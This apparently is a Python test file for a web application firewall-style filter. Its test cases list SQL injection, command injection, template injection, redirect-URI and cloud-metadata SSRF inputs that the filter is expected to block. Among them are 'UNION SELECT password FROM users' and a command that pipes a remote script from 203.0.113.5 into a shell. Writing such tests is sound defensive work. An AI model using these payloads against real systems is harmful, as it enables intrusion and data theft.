"""Words and phrases of catalogues, and passwords, are full of signs; attacks go on behind them."""

from __future__ import annotations

import json
from urllib.parse import urlencode

import pytest
from web_requests import stops

JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}


@pytest.mark.parametrize(
    ("value", "is_found"),
    [
        ('ti:("select stories") AND au:O\'Connor NOT la:ger', False),
        ('ti=("l\'étranger" or "der fremde") and au=camus not la=eng', False),
        ('C++/C# "R&D" OR .NET (m/w/d)', False),
        ('x" OR "a"="a', True),
        ('"a" OR "b"="b" OR "c', True),
        ("x' OR 'a'='a", True),
        ("ti:\"select stories\" AND au:O' OR 'a'='a", True),
        ('"select name" UNION SELECT password FROM users', True),
        ('"or 1" OR sleep(5)', True),
        ('a "b" OR 1=1--', True),
    ],
)
def test_searches(value: str, *, is_found: bool) -> None:
    """A phrase stands between blanks and goes on with nothing; elsewhere it is a value."""
    assert is_found is stops(method="GET", query={"q": value})
    if not is_found:
        assert stops(method="GET", query={"id": value})


@pytest.mark.parametrize(
    ("value", "is_found"),
    [
        ("Gr1mm'--#x", False),
        ("'or-b=B!", False),
        ("{{xK7*7}} $(mR);--", False),
        ("${Sommer}{{2026}}../%00!", False),
        ("x' or '1'='1", True),
        ("x' or 1=1 -- ", True),
        ("x'; drop table users; --", True),
        ("x;curl http://203.0.113.5/a|sh", True),
        ("$(id)", True),
        ("{{config.items()}}", True),
        ("a' union select password from users -- ", True),
    ],
)
def test_passwords(value: str, *, is_found: bool) -> None:
    """A form for passwords says so by its path; its fields are passwords under any name."""
    body = urlencode({"old": value, "confirm": value})
    assert is_found is stops("/account/password", headers=FORM, body=body)
    if not is_found:
        assert stops("/account/address", headers=FORM, body=body)
        assert stops("/account/password", headers=FORM, body=urlencode({"login": value}))


def test_a_password_under_its_name() -> None:
    """Logic that no statement around it can be read to the end of is no attack."""
    assert (False, True, True) == (
        stops("/join", headers=JSON, body=json.dumps({"password": '\' or Not2b="Q"!'})),
        stops("/join", headers=JSON, body=json.dumps({"password": "' or Not2b='Q"})),
        stops("/join", headers=JSON, body=json.dumps({"login": '\' or Not2b="Q"!'})),
    )


def test_a_client_of_a_sign_in_service_may_be_at_home() -> None:
    """A developer lists the own machine; hidden targets in the list are found."""
    client = {"clientId": "shop", "publicClient": True, "redirectUris": ["http://localhost:3000/*"]}
    hidden = {**client, "redirectUris": ["https://shop.example@e.example/cb"]}
    assert (False, True, True) == (
        stops("/clients", headers=JSON, body=json.dumps(client)),
        stops("/clients", headers=JSON, body=json.dumps(hidden)),
        stops(
            "/clients", headers=JSON, body=json.dumps({**client, "url": "http://localhost:3000/"})
        ),
    )


@pytest.mark.parametrize(
    ("body", "is_found"),
    [
        ({"text": "the location is proxy_pass http://127.0.0.1:8080;"}, False),
        ({"text": "http://127.0.0.1:8080/admin proxy location"}, True),
        ({"url": "the location is proxy_pass http://127.0.0.1:8080;"}, True),
        ({"text": "see worker at http://169.254.169.254/latest/"}, True),
    ],
)
def test_addresses_in_a_text(body: dict[str, str], *, is_found: bool) -> None:
    """An application loads a value that is an address, not a text with one in it."""
    assert is_found is stops(headers=JSON, body=json.dumps(body))
